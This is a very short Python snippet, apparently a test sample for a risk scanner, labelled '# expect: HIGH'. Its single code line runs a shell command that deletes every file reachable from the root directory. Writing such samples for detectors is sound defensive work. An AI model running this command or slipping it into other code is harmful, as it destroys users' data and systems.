# expect: HIGH
import os
os.system("find / -type f -print0 | xargs -0 rm -f")
